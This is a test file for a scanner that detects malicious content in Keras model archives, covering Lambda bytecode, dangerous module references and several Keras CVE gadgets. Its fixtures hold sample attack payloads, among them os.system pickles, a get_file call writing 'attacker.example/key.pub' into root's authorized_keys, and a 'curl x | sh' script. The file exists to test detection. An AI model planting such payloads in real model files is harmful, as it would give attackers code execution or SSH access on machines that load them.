import { writeZip } from "@watchtower/containers/testing";
import { describe, expect, it } from "vitest";

import { atOrAbove, byRule, scanZip, summary } from "./helpers.js";
import { buildH5 } from "./fixtures/h5.js";
import { k3, k3Conv, k3ConvFunctional, k3Dense, k3Lambda, k3Sequential, kerasZip } from "./fixtures/keras.js";
import { BENIGN_LAMBDA, lambdaBase64, MALICIOUS_LAMBDA } from "./fixtures/marshal.js";
import { globalCallP2, globalCallP4, pureDataP4 } from "./fixtures/pickle.js";

async function weights(): Promise<Uint8Array> {
  return buildH5({
    groups: { layers: {}, "layers/dense": {}, "layers/dense/vars": {} },
    datasets: { "layers/dense/vars/0": { data: new Float32Array(32).map((_, i) => i / 7), shape: [4, 8] }, "layers/dense/vars/1": { data: new Float32Array(8) } },
  });
}

describe(".keras: benign models", () => {
  it("a Dense Sequential model with weights has nothing at medium or above", async () => {
    const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("dense", 8), k3Dense("dense_1", 1)]), weights: await weights() }));
    expect(atOrAbove(r, "medium")).toEqual([]);
    expect(r.incompletes).toEqual([]);
  });

  it("a Conv functional model has no findings", async () => {
    const r = await scanZip(kerasZip({ config: k3ConvFunctional(), weights: await weights() }));
    expect(r.reports).toEqual([]);
    expect(r.incompletes).toEqual([]);
  });

  it("leaves non-Keras zips alone (PyTorch archive, npz, a zip with someone's config.json)", async () => {
    const torch = writeZip([{ name: "archive/data.pkl", data: globalCallP2("os", "system", "id") }, { name: "archive/version", data: "3\n" }]);
    const hf = writeZip([{ name: "config.json", data: JSON.stringify({ architectures: ["BertModel"], hidden_size: 768 }) }]);
    for (const z of [torch, hf]) {
      const r = await scanZip(z, {}, "model.zip");
      expect(r.reports).toEqual([]);
      expect(r.incompletes).toEqual([]);
    }
  });
});

describe(".keras: Lambda, modules, CVE gadgets", () => {
  it("a Keras 3 Lambda (__lambda__ code) is high, critical with dangerous names", async () => {
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([k3Lambda("l", lambdaBase64(BENIGN_LAMBDA))]) })))).toEqual(["keras/lambda-layer high lambda bytecode"]);
    const r = await scanZip(kerasZip({ config: k3Sequential([k3Lambda("l", lambdaBase64(MALICIOUS_LAMBDA))]) }));
    expect(byRule(r, "keras/lambda-layer")[0]).toMatchObject({ severity: "critical", at: { kind: "binary", member: "config.json" } });
  });

  it("module roots outside Keras: dangerous critical, unknown medium (CVE-2025-1550)", async () => {
    const evil = k3Dense("d", 4, { kernel_initializer: k3("os", "function", "system", { registered_name: "function" }) });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([evil]) })))).toEqual(["keras/unsafe-module critical os.system"]);
    const custom = k3("my_project.layers", "Attention", { name: "att" }, { registered_name: "my_project>Attention" });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([custom]) })))).toEqual(["keras/unsafe-module medium my_project.layers.Attention"]);
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([custom]) }), { strictModels: true }))).toEqual(["keras/unsafe-module high my_project.layers.Attention"]);
  });

  it("prefix collision: keras_evil is not keras", async () => {
    const layer = k3("keras_evil.layers", "Dense", { name: "d" });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/unsafe-module medium keras_evil.layers.Dense"]);
  });

  it("Keras' own 'builtins' function form is fine for Keras functions, critical for exec", async () => {
    const ok = k3Dense("d", 4, { activation: k3("builtins", "function", "relu", { registered_name: "function" }) });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([ok]) })))).toEqual([]);
    const bad = k3Dense("d", 4, { activation: k3("builtins", "function", "exec", { registered_name: "function" }) });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([bad]) })))).toEqual(["keras/unsafe-module critical builtins.exec"]);
  });

  it("enable_unsafe_deserialization anywhere is critical (CVE-2025-9906)", async () => {
    const trigger = k3Dense("d", 4, { activation: k3("keras.config", "function", "enable_unsafe_deserialization", { registered_name: "function" }) });
    const r = await scanZip(kerasZip({ config: k3Sequential([trigger, k3Lambda("l", lambdaBase64(BENIGN_LAMBDA))]) }));
    expect(summary(r)).toEqual(["keras/lambda-layer high lambda bytecode", "keras/unsafe-deserialization-flag critical enable_unsafe_deserialization"]);
  });

  it("get_file with a URL is high (CVE-2025-8747)", async () => {
    const layer = k3("keras.layers", "Lambda", {
      name: "fetch",
      function: k3("keras.utils", "function", "get_file", { registered_name: "function" }),
      arguments: { fname: "/root/.ssh/authorized_keys", origin: "https://attacker.example/key.pub", cache_dir: "/" },
    });
    const r = await scanZip(kerasZip({ config: k3Sequential([layer]) }));
    expect(summary(r)).toEqual(["keras/remote-file-fetch high https://attacker.example/key.pub"]);
  });

  it("credentials in a get_file URL are masked in the evidence", async () => {
    const layer = k3("keras.layers", "Lambda", {
      name: "fetch",
      function: k3("keras.utils", "function", "get_file", { registered_name: "function" }),
      arguments: { origin: "https://deploy:" + "s3cr3t" + "@attacker.example/x" },
    });
    const r = await scanZip(kerasZip({ config: k3Sequential([layer]) }));
    expect(summary(r)).toEqual(["keras/remote-file-fetch high https://***@attacker.example/x"]);
    expect(JSON.stringify(r.reports)).not.toContain("s3cr3t");
  });

  it("Lambda calling keras.models.load_model with safe_mode false (safe-mode bypass chain) is critical", async () => {
    const layer = k3("keras.layers", "Lambda", { name: "chain", function: k3("keras.models", "function", "load_model", { registered_name: "function" }), arguments: { safe_mode: false } });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/lambda-layer critical keras.models.load_model"]);
  });

  it("a non-modelling Keras function outside a Lambda is high", async () => {
    const layer = k3Dense("d", 4, { activation: k3("keras.src.backend.common.global_state", "function", "set_global_attribute", { registered_name: "function" }) });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual([
      "keras/non-modeling-function high keras.src.backend.common.global_state.set_global_attribute",
    ]);
  });

  it("TorchModuleWrapper is high; critical when its pickle imports os (CVE-2025-49655)", async () => {
    const b64 = (b: Uint8Array): string => btoa(String.fromCharCode(...b));
    const benignTorch = writeZip([{ name: "model/data.pkl", data: globalCallP2("torch.nn.modules.linear", "Linear", "x") }]);
    const wrapper = (payload: string) => k3("keras.layers", "TorchModuleWrapper", { name: "torch", module: payload, output_shape: null });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([wrapper(b64(benignTorch))]) })))).toEqual(["keras/torch-module-wrapper high TorchModuleWrapper"]);
    const evilTorch = writeZip([{ name: "model/data.pkl", data: globalCallP4("os", "system", "id") }]);
    const r = await scanZip(kerasZip({ config: k3Sequential([wrapper(b64(evilTorch))]) }));
    expect(summary(r)).toEqual(["keras/torch-module-wrapper critical TorchModuleWrapper"]);
  });
});

describe(".keras: archive members", () => {
  it("a .py member is medium, an ELF binary critical, a pickle asset high", async () => {
    const elf = Uint8Array.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0, ...new Array(56).fill(0)]);
    const r = await scanZip(
      kerasZip({
        config: k3Sequential([k3Conv("c")]),
        extra: [
          { name: "assets/helper.py", data: "import os\nos.system('id')\n" },
          { name: "assets/tool", data: elf },
          { name: "assets/state.bin", data: pureDataP4() },
          { name: "assets/vocab.txt", data: "a\nb\nc\n" },
        ],
      }),
    );
    expect(summary(r)).toEqual([
      "keras/embedded-code-file critical ELF executable",
      "keras/embedded-code-file medium assets/helper.py",
      "keras/embedded-pickle high pickle protocol 4",
    ]);
  });

  it("a shebang script member is critical", async () => {
    const r = await scanZip(kerasZip({ config: k3Sequential([]), extra: [{ name: "assets/run", data: "#!/bin/sh\ncurl x | sh\n" }] }));
    expect(summary(r)).toEqual(["keras/embedded-code-file critical script with a #! interpreter line"]);
  });

  it("model.weights.h5 is scanned as HDF5: a pickle attribute inside is reported with the member path", async () => {
    const w = await buildH5({ groups: { layers: { hidden: { fixed: globalCallP4("os", "system", "id") } } } });
    const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("d", 2)]), weights: w }));
    expect(byRule(r, "keras/embedded-pickle")[0]).toMatchObject({ severity: "critical", at: { kind: "binary", member: "model.weights.h5:/layers@hidden" } });
  });
});

describe(".keras: fail closed", () => {
  it("config.json that is not JSON is incomplete", async () => {
    const r = await scanZip(kerasZip({ config: '{"module": "keras", "class_name": "Sequential", "config": {"layers": [' }));
    expect(r.incompletes[0]?.details).toMatch(/config\.json is not valid JSON/);
  });

  it("a truncated archive is incomplete", async () => {
    const z = kerasZip({ config: k3Sequential([k3Dense("d", 2)]), weights: await weights() });
    const r = await scanZip(z.subarray(0, Math.floor(z.length * 0.8)));
    expect(r.incompletes).toHaveLength(1);
  });

  it("a model.weights.h5 that is not HDF5 at all is incomplete", async () => {
    const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("d", 2)]), weights: new TextEncoder().encode("not hdf5") }));
    expect(r.incompletes[0]?.details).toMatch(/model\.weights\.h5 is not an HDF5 file/);
  });

  it("a corrupt model.weights.h5 inside is incomplete", async () => {
    const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("d", 2)]), weights: Uint8Array.from([0x89, 0x48, 0x44, 0x46, 0x0d, 0x0a, 0x1a, 0x0a, 0, 0, 0]) }));
    expect(r.incompletes[0]?.details).toMatch(/model\.weights\.h5: not a readable HDF5 file/);
  });
});

describe(".keras: more shapes", () => {
  it("get_file without any URL in the config is medium", async () => {
    const layer = k3("keras.layers", "Lambda", { name: "f", function: k3("keras.utils", "function", "get_file", { registered_name: "function" }), arguments: { fname: "x" } });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/remote-file-fetch medium keras.utils.get_file"]);
  });

  it("TFOpLambda writing files and TensorFlowOpLayer running ReadFile are non-modelling functions", async () => {
    const write = { class_name: "TFOpLambda", config: { name: "tf.io.write_file", trainable: true, dtype: "float32", function: "io.write_file" }, name: "w", inbound_nodes: [] };
    const read = { class_name: "TensorFlowOpLayer", config: { name: "ReadFile", trainable: true, node_def: { name: "ReadFile", op: "ReadFile", input: ["x"] }, constants: {} } };
    const ok = { class_name: "TFOpLambda", config: { name: "tf.math.multiply", function: "math.multiply" } };
    const r = await scanZip(kerasZip({ config: k3Sequential([write, read, ok]) }));
    expect(summary(r)).toEqual(["keras/non-modeling-function high ReadFile", "keras/non-modeling-function high tf.io.write_file"]);
  });

  it("Keras file helpers are non-modelling functions even under generic names (keras.ops.copy is not)", async () => {
    const bad = k3Dense("d", 4, { activation: k3("keras.src.utils.file_utils", "function", "copy", { registered_name: "function" }) });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([bad]) })))).toEqual(["keras/non-modeling-function high keras.src.utils.file_utils.copy"]);
    const ok = k3Dense("d", 4, { activation: k3("keras.ops", "function", "copy", { registered_name: "function" }) });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([ok]) })))).toEqual([]);
  });

  it("TFSMLayer (loads an external SavedModel) is medium", async () => {
    const layer = k3("keras.layers", "TFSMLayer", { name: "sm", filepath: "/tmp/saved_model", call_endpoint: "serve" });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([layer]) })))).toEqual(["keras/non-modeling-function medium keras.layers.TFSMLayer"]);
  });

  it("a tf-keras (Keras 2 serializer) Lambda inside a .keras archive is decoded", async () => {
    const lambda = k3("keras.layers", "Lambda", { name: "old", function: [lambdaBase64(MALICIOUS_LAMBDA, "py38"), null, null], function_type: "lambda", module: "__main__", output_shape: null, output_shape_type: "raw", arguments: {} });
    expect(summary(await scanZip(kerasZip({ config: k3Sequential([lambda]), metadata: { keras_version: "2.15.0" } })))).toEqual(["keras/lambda-layer critical __import__, os, system"]);
  });

  it("object arrays in model.weights.npz are pickles", async () => {
    const header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }";
    const padded = header.padEnd(118, " ") + "\n";
    const npy = new Uint8Array([0x93, 0x4e, 0x55, 0x4d, 0x50, 0x59, 1, 0, padded.length, 0, ...new TextEncoder().encode(padded), ...globalCallP2("os", "system", "id")]);
    const npz = writeZip([{ name: "layers.dense.vars.0.npy", data: npy }]);
    const r = await scanZip(kerasZip({ config: k3Sequential([k3Dense("d", 1)]), extra: [{ name: "model.weights.npz", data: npz }] }));
    expect(byRule(r, "keras/embedded-pickle")[0]).toMatchObject({ severity: "critical", at: { member: "model.weights.npz:layers.dense.vars.0.npy" } });
  });
});
